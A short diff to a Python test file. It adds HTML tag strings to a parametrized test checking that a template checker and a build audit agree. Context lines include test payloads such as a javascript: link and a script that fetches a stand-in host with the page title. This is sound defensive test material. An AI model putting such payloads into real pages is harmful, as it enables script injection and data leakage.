@@ -68,6 +68,7 @@ def test_a_harmless_template_gets_no_finding(sample: Path) -> None:
     '<a href="javascript:alert(1)">x</a>', '<link rel="icon" href="data:,">', '<a href="https://example.org/">x</a>',
     '<meta http-equiv="refresh" content="30">', '<script>fetch("https://x.example/?" + document.title)</script>',
     '<SCRIPT type="module">import("/x.js")</SCRIPT>', '<script></script>', '<script type="application/json">{"a": 1}</script>',
+    '<bdo dir="rtl">x</bdo>', '<p dir="rtl">x</p>', '<img src="data:image/svg+xml;base64,AAAA">', '<p dir="ltr">x</p>',
 ])
 def test_check_and_the_audit_judge_a_head_alike(tag: str) -> None:
     """What check says of a template's tag is what the build's audit says of the page it lands in."""
